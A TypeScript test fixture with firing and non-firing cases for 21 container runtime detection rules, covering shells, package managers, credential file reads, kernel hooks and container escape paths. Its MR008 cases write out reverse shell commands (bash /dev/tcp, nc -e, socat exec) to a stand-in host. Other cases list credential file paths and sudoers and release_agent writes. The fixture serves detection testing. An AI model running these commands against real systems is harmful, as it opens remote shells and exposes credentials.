/**
 * Firing and non-firing cases of every built-in rule (builtin.test.ts runs
 * them; registry.test.ts checks each rule has both). `quiet` cases assert
 * that no built-in rule fires at all: the noise a default must not make.
 */
import type {
  ContainerEvent,
  ContainerRef,
  ExecEvent,
  NetworkEvent,
  NotableSyscallEvent,
  OpenEvent,
  ProcessInfo,
} from '../../model/index.js';

export const CONTAINER: ContainerRef = {
  id: 'c0ffee',
  runtime: 'runc',
  pid: 100,
  image: 'docker.io/library/debian:12',
  pod: { name: 'web-0', namespace: 'shop' },
};

export interface Case {
  readonly rule: string;
  readonly fires: boolean;
  readonly name: string;
  readonly event: ContainerEvent;
  readonly tree?: readonly ProcessInfo[];
  /** No built-in rule at all may fire. */
  readonly quiet?: boolean;
  /** The default exception of `rule` that keeps it quiet (the rule itself matches). */
  readonly exception?: string;
  /** The sensor observed the event to be the container runtime's setup (DetectContext.runtimeSetup). */
  readonly runtimeSetup?: boolean;
}

const base = { time: 1_700_000_000_000, cgroupId: '4242', uid: 0, container: CONTAINER };

export function exec(exe: string, argv: string[], o: Partial<ExecEvent> = {}): ExecEvent {
  return { ...base, kind: 'exec', pid: 200, ppid: 150, comm: argv[0]?.split('/').pop() ?? '', exe, argv, ...o };
}
export function open(path: string, write: boolean, o: Partial<OpenEvent> = {}): OpenEvent {
  return { ...base, kind: 'open', pid: 200, comm: 'cat', path, flags: write ? 0o1101 : 0, write, ...o };
}
export function connect(address: string, port: number, o: Partial<NetworkEvent> = {}): NetworkEvent {
  const family = address.startsWith('/') ? 'unix' : address.includes(':') ? 'inet6' : 'inet';
  return {
    ...base,
    kind: 'connect',
    pid: 200,
    comm: 'curl',
    protocol: family === 'unix' ? 'unix' : 'tcp',
    family,
    address,
    port,
    ...o,
  };
}
export function sys(
  syscall: NotableSyscallEvent['syscall'],
  args: Record<string, string | number> = {},
  o: Partial<NotableSyscallEvent> = {},
): NotableSyscallEvent {
  return { ...base, kind: 'syscall', pid: 200, comm: 'evil', syscall, args, ...o };
}
export function proc(pid: number, ppid: number, exe: string, argv: string[] = [exe]): ProcessInfo {
  return { pid, ppid, uid: 0, exe, argv, comm: exe.split('/').pop() ?? '' };
}

const fire = (rule: string, name: string, event: ContainerEvent, tree?: ProcessInfo[]): Case => ({
  rule,
  fires: true,
  name,
  event,
  ...(tree ? { tree } : {}),
});
const calm = (rule: string, name: string, event: ContainerEvent, tree?: ProcessInfo[], quiet = false): Case => ({
  rule,
  fires: false,
  name,
  event,
  ...(tree ? { tree } : {}),
  quiet,
});
const quiet = (rule: string, name: string, event: ContainerEvent, tree?: ProcessInfo[]): Case =>
  calm(rule, name, event, tree, true);
/** A quiet case that one default exception of the rule accounts for. */
const lifted = (rule: string, exception: string, name: string, event: ContainerEvent, tree?: ProcessInfo[]): Case => ({
  ...quiet(rule, name, event, tree),
  exception,
});

/** A quiet case the `runtime-setup` exception accounts for: the sensor flagged the event as the runtime's setup. */
const setupWork = (rule: string, name: string, event: ContainerEvent): Case => ({
  ...lifted(rule, 'runtime-setup', name, event),
  runtimeSetup: true,
});
const RUNC_NAMES = ['runc:[0:PARENT]', 'runc:[1:CHILD]', 'runc:[2:INIT]'];

const SH = '/bin/sh';
const init = (exe: string, argv?: string[]): ProcessInfo => proc(100, 1, exe, argv);
const self = (exe: string, ppid = 150, argv?: string[]): ProcessInfo => proc(200, ppid, exe, argv);

export const CASES: readonly Case[] = [
  // MR001 shell
  fire('MR001', 'runc exec sh -c', exec(SH, ['sh', '-c', 'cat /etc/shadow'])),
  fire('MR001', 'busybox applet sh', exec('/bin/busybox', ['sh'])),
  fire('MR001', 'busybox sh', exec('/bin/busybox', ['busybox', 'sh', '-c', 'id'])),
  fire('MR001', 'login shell -bash', exec('/bin/bash', ['-bash'])),
  fire('MR001', 'shell spawned by the application', exec(SH, ['sh', '-c', 'id'], { ppid: 100 }), [
    init('/usr/local/bin/node', ['node', 'server.js']),
  ]),
  fire('MR001', 'grandchild of the entrypoint', exec('/bin/bash', ['bash'], { ppid: 300 }), [
    proc(300, 100, '/usr/bin/python3'),
    init(SH),
  ]),
  lifted('MR001', 'entrypoint', 'the entrypoint shell itself', exec(SH, ['sh', '-c', 'exec nginx'], { pid: 100, ppid: 90 })),
  lifted('MR001', 'entrypoint', 'entrypoint replacing runc init', exec(SH, ['sh', '/run.sh'], { pid: 100, ppid: 90 }), [
    proc(100, 90, '/usr/sbin/runc', ['runc', 'init']),
  ]),
  fire('MR001', 'application at pid 1 replacing itself with a shell', exec(SH, ['sh'], { pid: 100, ppid: 90 }), [
    init('/usr/local/bin/node', ['node', 'server.js']),
  ]),
  lifted('MR001', 'entrypoint-child', 'entrypoint script helper', exec(SH, ['sh', '/docker-entrypoint.d/10-x.sh'], { ppid: 100 }), [
    init('/bin/bash', ['bash', '/docker-entrypoint.sh']),
  ]),
  lifted('MR001', 'entrypoint-child', 'child of tini', exec(SH, ['sh', '/entrypoint.sh'], { ppid: 100 }), [init('/usr/bin/tini')]),
  quiet('MR001', 'busybox ls', exec('/bin/busybox', ['ls', '/'])),
  quiet('MR001', 'python app', exec('/usr/bin/python3', ['python3', 'app.py'])),

  // MR002 package manager
  fire('MR002', 'apt-get install', exec('/usr/bin/apt-get', ['apt-get', 'install', '-y', 'curl'])),
  fire('MR002', 'apt-get -o X install', exec('/usr/bin/apt-get', ['apt-get', '-o', 'Dpkg::Options::=--force-confold', 'install', 'x'])),
  fire('MR002', 'apt update', exec('/usr/bin/apt', ['apt', 'update'])),
  fire('MR002', 'dpkg -i', exec('/usr/bin/dpkg', ['dpkg', '-i', '/tmp/x.deb'])),
  fire('MR002', 'apk add', exec('/sbin/apk', ['apk', 'add', '--no-cache', 'curl'])),
  fire('MR002', 'rpm -Uvh', exec('/usr/bin/rpm', ['rpm', '-Uvh', 'x.rpm'])),
  fire('MR002', 'yum install', exec('/usr/bin/yum', ['yum', '-y', 'install', 'nc'])),
  fire('MR002', 'microdnf install', exec('/usr/bin/microdnf', ['microdnf', 'install', 'x'])),
  fire('MR002', 'pip3 install', exec('/usr/bin/python3', ['/usr/bin/python3', '/usr/local/bin/pip3', 'install', 'requests'])),
  fire('MR002', 'python -m pip install', exec('/usr/bin/python3', ['python3', '-m', 'pip', 'install', 'x'])),
  fire('MR002', 'npm install (node script)', exec('/usr/local/bin/node', ['node', '/usr/local/bin/npm', 'install', 'left-pad'])),
  fire('MR002', 'yarn global add', exec('/usr/local/bin/node', ['node', '/opt/yarn/bin/yarn.js', 'global', 'add', 'x'])),
  fire('MR002', 'pnpm i', exec('/usr/local/bin/pnpm', ['pnpm', 'i'])),
  fire('MR002', 'gem install', exec('/usr/bin/ruby', ['ruby', '/usr/bin/gem', 'install', 'rails'])),
  quiet('MR002', 'dpkg -l', exec('/usr/bin/dpkg', ['dpkg', '-l'])),
  quiet('MR002', 'dpkg --print-architecture', exec('/usr/bin/dpkg', ['dpkg', '--print-architecture'])),
  quiet('MR002', 'rpm -qi', exec('/usr/bin/rpm', ['rpm', '-qi', 'bash'])),
  quiet('MR002', 'pip list', exec('/usr/bin/python3', ['python3', '-m', 'pip', 'list'])),
  quiet('MR002', 'npm start -- --mode install', exec('/usr/local/bin/node', ['node', '/usr/local/bin/npm', 'start', '--', '--mode', 'install'])),
  quiet('MR002', 'yarn start', exec('/usr/local/bin/yarn', ['yarn', 'start'])),
  quiet('MR002', 'apt list --installed', exec('/usr/bin/apt', ['apt', 'list', '--installed'])),

  // MR003 shadow
  fire('MR003', 'cat /etc/shadow', open('/etc/shadow', false), [self('/usr/bin/cat')]),
  fire('MR003', 'path with // and ..', open('/tmp/..//etc/gshadow', false)),
  fire('MR003', 'unix_chkpwd copied elsewhere', open('/etc/shadow', false), [self('/tmp/unix_chkpwd')]),
  fire('MR003', 'useradd run by runc exec', open('/etc/shadow', false), [self('/usr/sbin/useradd')]),
  quiet('MR003', 'reading /etc/passwd', open('/etc/passwd', false)),
  lifted('MR003', 'pam-helpers', 'unix_chkpwd', open('/etc/shadow', false), [self('/usr/sbin/unix_chkpwd')]),
  lifted('MR003', 'account-tools-at-start', 'useradd run by the entrypoint', open('/etc/shadow', false), [self('/usr/sbin/useradd', 100), init(SH)]),
  calm('MR003', 'writing /etc/shadow is MR007', open('/etc/shadow', true), [self('/usr/bin/perl')]),

  // MR004 credentials
  fire('MR004', 'ssh private key', open('/root/.ssh/id_rsa', false)),
  fire('MR004', 'aws credentials', open('/home/app/.aws/credentials', false)),
  fire('MR004', 'docker config', open('/root/.docker/config.json', false)),
  fire('MR004', 'kubeconfig', open('/root/.kube/config', false)),
  fire('MR004', 'gcloud ADC', open('/app/.config/gcloud/application_default_credentials.json', false)),
  fire('MR004', 'kubernetes pki key', open('/etc/kubernetes/pki/apiserver.key', false)),
  fire('MR004', 'ssh copied to /tmp', open('/root/.ssh/id_ed25519', false), [self('/tmp/ssh')]),
  quiet('MR004', 'public key', open('/root/.ssh/id_rsa.pub', false)),
  quiet('MR004', 'known_hosts', open('/root/.ssh/known_hosts', false)),
  lifted('MR004', 'own-client', 'ssh reads its key', open('/root/.ssh/id_ed25519', false), [self('/usr/bin/ssh')]),
  quiet('MR004', 'gcloud configuration', open('/root/.config/gcloud/configurations/config_default', false)),

  // MR005 system dirs
  fire('MR005', 'curl writes /usr/bin', open('/usr/bin/kubectl', true), [self('/usr/bin/curl')]),
  fire('MR005', 'libc replaced', open('/lib/x86_64-linux-gnu/libc.so.6', true)),
  fire('MR005', 'normalised path', open('/bin/../usr/local/sbin/x', true)),
  fire('MR005', '.pyc written by cat', open('/usr/lib/python3.11/__pycache__/os.cpython-311.pyc', true), [self('/usr/bin/cat')]),
  quiet('MR005', 'writing /tmp', open('/tmp/x', true)),
  quiet('MR005', 'reading /usr/bin/ls', open('/usr/bin/ls', false)),
  quiet('MR005', '/usr/binaries is not /usr/bin', open('/usr/binaries/x', true)),
  lifted('MR005', 'package-manager', 'dpkg unpacking', open('/usr/bin/curl.dpkg-new', true), [self('/usr/bin/dpkg')]),
  lifted('MR005', 'package-manager', 'maintainer script under dpkg', open('/usr/sbin/policy-rc.d', true), [
    self(SH, 300),
    proc(300, 100, '/usr/bin/dpkg'),
  ]),
  lifted('MR005', 'python-bytecode', 'python bytecode', open('/usr/lib/python3.11/__pycache__/os.cpython-311.pyc', true), [
    self('/usr/bin/python3.11'),
  ]),

  // MR006 ld.so.preload
  fire('MR006', 'write /etc/ld.so.preload', open('/etc/ld.so.preload', true)),
  quiet('MR006', 'the dynamic linker reads it', open('/etc/ld.so.preload', false)),

  // MR007 account files
  fire('MR007', 'append to /etc/passwd', open('/etc/passwd', true), [self(SH)]),
  fire('MR007', 'sudoers.d', open('/etc/sudoers.d/backdoor', true)),
  quiet('MR007', 'read /etc/passwd', open('/etc/passwd', false)),
  lifted('MR007', 'account-tools-at-start', 'useradd by the entrypoint', open('/etc/passwd', true), [self('/usr/sbin/useradd', 100), init(SH)]),
  lifted('MR007', 'package-manager', 'adduser under dpkg', open('/etc/passwd', true), [
    self('/usr/bin/perl', 300, ['/usr/bin/perl', '/usr/sbin/adduser', '--system', 'x']),
    proc(300, 301, SH, ['/bin/sh', '/var/lib/dpkg/info/x.postinst']),
    proc(301, 100, '/usr/bin/dpkg'),
  ]),

  // MR008 reverse shell
  fire('MR008', 'shell with socket stdin', exec(SH, ['sh', '-i'], { stdin: 'socket', stdout: 'socket' })),
  fire('MR008', 'bash /dev/tcp', exec('/bin/bash', ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'])),
  fire('MR008', 'python -c with socket stdout', exec('/usr/bin/python3', ['python3', '-c', 'import pty'], { stdout: 'socket' })),
  fire('MR008', 'nc -e', exec('/usr/bin/nc', ['nc', '203.0.113.9', '4444', '-e', '/bin/sh'])),
  fire('MR008', 'socat exec', exec('/usr/bin/socat', ['socat', 'exec:bash -li,pty,stderr', 'tcp:203.0.113.9:4444'])),
  fire('MR008', 'busybox nc -e', exec('/bin/busybox', ['nc', '203.0.113.9', '4444', '-e', 'sh'])),
  calm('MR008', 'shell with pipes', exec(SH, ['sh', '-c', 'ls'], { stdin: 'pipe', stdout: 'pipe' })),
  quiet('MR008', 'socket-activated server', exec('/usr/bin/python3', ['python3', 'app.py'], { stdin: 'socket' })),
  calm('MR008', 'nc without -e', exec('/usr/bin/nc', ['nc', '203.0.113.9', '80'])),

  // MR009 netcat
  fire('MR009', 'nc to a host', exec('/usr/bin/nc', ['nc', '203.0.113.9', '4444'])),
  fire('MR009', 'socat listener', exec('/usr/bin/socat', ['socat', 'TCP-LISTEN:8080', 'STDOUT'])),
  fire('MR009', 'nc -z over a port range', exec('/usr/bin/nc', ['nc', '-zv', 'db', '1-1000'])),
  lifted('MR009', 'port-check', 'wait-for nc -z', exec('/usr/bin/nc', ['nc', '-z', 'db', '5432'])),
  quiet('MR009', 'curl', exec('/usr/bin/curl', ['curl', 'https://example.com'])),

  // MR010 scanners
  fire('MR010', 'nmap', exec('/usr/bin/nmap', ['nmap', '-sS', '10.0.0.0/24'])),
  fire('MR010', 'masscan', exec('/usr/bin/masscan', ['masscan', '-p80', '10.0.0.0/8'])),
  quiet('MR010', 'ping', exec('/usr/bin/ping', ['ping', '-c1', '10.0.0.1'])),

  // MR011 ptrace
  fire('MR011', 'PTRACE_ATTACH', sys('ptrace', { request: 16, pid: 999 })),
  fire('MR011', 'PTRACE_SEIZE by name', sys('ptrace', { request: 'PTRACE_SEIZE', pid: 999 })),
  fire('MR011', 'PTRACE_POKEDATA', sys('ptrace', { request: 5, pid: 999 })),
  fire('MR011', 'undecoded request', sys('ptrace', {})),
  quiet('MR011', 'PTRACE_TRACEME', sys('ptrace', { request: 0 })),
  quiet('MR011', 'PTRACE_PEEKDATA', sys('ptrace', { request: 'PTRACE_PEEKDATA', pid: 999 })),
  quiet('MR011', 'attach to itself', sys('ptrace', { request: 16, pid: 200 })),

  // MR012 mount
  fire('MR012', 'mount', sys('mount', { source: '/dev/sda1', target: '/mnt' })),
  fire('MR012', 'umount', sys('umount', { target: '/proc/kcore' })),
  fire('MR012', 'runc-like name, other program', sys('mount', {}, { comm: 'runc:[2:INIT]' }), [self('/tmp/evil')]),
  ...RUNC_NAMES.map((comm) => fire('MR012', `${comm} not flagged as setup, process gone`, sys('mount', { target: '/mnt' }, { comm }))),
  fire('MR012', 'runc name and a runc-named executable, not flagged', sys('mount', {}, { comm: 'runc:[2:INIT]' }), [self('/tmp/runc')]),
  setupWork('MR012', 'runc init setting up', sys('mount', { target: '/proc' }, { comm: 'runc:[2:INIT]', pid: 100 })),

  // MR013 unshare
  fire('MR013', 'CLONE_NEWUSER as number', sys('unshare', { flags: 0x10000000 })),
  fire('MR013', 'CLONE_NEWNS by name', sys('unshare', { flags: 'CLONE_NEWNS|CLONE_NEWPID' })),
  fire('MR013', 'flags as hex string', sys('unshare', { flags: '0x10020000' })),
  fire('MR013', 'flags not decoded', sys('unshare', {})),
  fire('MR013', 'sign-extended flags', sys('unshare', { flags: -0x70000000 })),
  ...RUNC_NAMES.map((comm) => fire('MR013', `${comm} not flagged as setup, process gone`, sys('unshare', { flags: 0x10000000 }, { comm }))),
  setupWork('MR013', 'runc creating the container', sys('unshare', { flags: 0x10000000 }, { comm: 'runc:[1:CHILD]' })),
  quiet('MR013', 'CLONE_NEWNET only', sys('unshare', { flags: 0x40000000 })),
  quiet('MR013', 'CLONE_NEWUTS|CLONE_NEWIPC', sys('unshare', { flags: 'CLONE_NEWUTS|CLONE_NEWIPC' })),

  // MR014 setns
  fire('MR014', 'setns', sys('setns', { nstype: 0 })),
  fire('MR014', 'runc:[1:CHILD] not flagged as setup, process gone', sys('setns', {}, { comm: 'runc:[1:CHILD]', pid: 400 })),
  setupWork('MR014', 'runc exec joining the container', sys('setns', {}, { comm: 'runc:[1:CHILD]', pid: 400 })),

  // MR015 kernel modules
  fire('MR015', 'init_module', sys('init_module')),
  fire('MR015', 'finit_module', sys('finit_module', { fd: 3 })),
  quiet('MR015', 'keyctl', sys('keyctl', { operation: 'KEYCTL_READ' })),

  // MR016 bpf
  fire('MR016', 'BPF_PROG_LOAD', sys('bpf', { cmd: 5 })),
  fire('MR016', 'BPF_LINK_CREATE by name', sys('bpf', { cmd: 'BPF_LINK_CREATE' })),
  fire('MR016', 'cmd not decoded', sys('bpf')),
  quiet('MR016', 'map lookup', sys('bpf', { cmd: 1 })),
  quiet('MR016', 'map create by name', sys('bpf', { cmd: 'map_create' })),

  // MR017 release_agent
  fire('MR017', 'release_agent', open('/sys/fs/cgroup/rdma/release_agent', true)),
  fire('MR017', 'notify_on_release in a fresh mount', open('/tmp/cgrp/x/notify_on_release', true)),
  fire('MR017', 'relative path', open('release_agent', true)),
  quiet('MR017', 'reading release_agent', open('/sys/fs/cgroup/memory/release_agent', false)),

  // MR018 kernel hooks
  fire('MR018', 'core_pattern', open('/proc/sys/kernel/core_pattern', true)),
  fire('MR018', 'binfmt_misc register', open('/proc/sys/fs/binfmt_misc/register', true)),
  fire('MR018', 'uevent_helper', open('/sys/kernel/uevent_helper', true)),
  quiet('MR018', 'reading core_pattern', open('/proc/sys/kernel/core_pattern', false)),

  // MR019 sysrq
  fire('MR019', 'sysrq-trigger', open('/proc/sysrq-trigger', true)),
  quiet('MR019', 'reading sysrq setting', open('/proc/sys/kernel/sysrq', false)),

  // MR020 /sys/kernel
  fire('MR020', 'apparmor policy removal', open('/sys/kernel/security/apparmor/.remove', true)),
  calm('MR020', 'uevent_helper is MR018', open('/sys/kernel/uevent_helper', true)),
  quiet('MR020', 'cgroup.procs', open('/sys/fs/cgroup/unified/x/cgroup.procs', true)),

  // MR021 runtime socket
  fire('MR021', 'docker.sock', connect('/var/run/docker.sock', 0)),
  fire('MR021', 'containerd.sock mounted elsewhere', connect('/host/run/containerd/containerd.sock', 0)),
  fire('MR021', 'open of crio.sock', open('/run/crio/crio.sock', false)),
  quiet('MR021', 'application socket', connect('/run/app/app.sock', 0)),
  quiet('MR021', 'ordinary TCP connect', connect('10.0.0.5', 443)),
  quiet('MR021', 'ordinary IPv6 connect', connect('2001:db8::5', 5432)),
];
